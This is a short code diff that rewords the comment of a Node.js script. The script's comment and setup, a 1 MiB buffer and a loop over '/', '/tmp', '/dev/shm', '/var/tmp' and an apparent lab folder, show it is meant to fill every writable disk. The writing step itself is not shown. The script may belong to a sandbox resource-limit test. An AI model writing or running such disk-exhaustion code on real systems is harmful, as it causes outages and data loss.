@@ -1,4 +1,4 @@
-// Fills whatever can be filled.
+// Fills every disk that it can.
 const fs = process.getBuiltinModule('fs');
 const block = Buffer.alloc(2 ** 20);
 for (const folder of ['/', '/tmp', '/dev/shm', '/convlab', '/var/tmp']) {
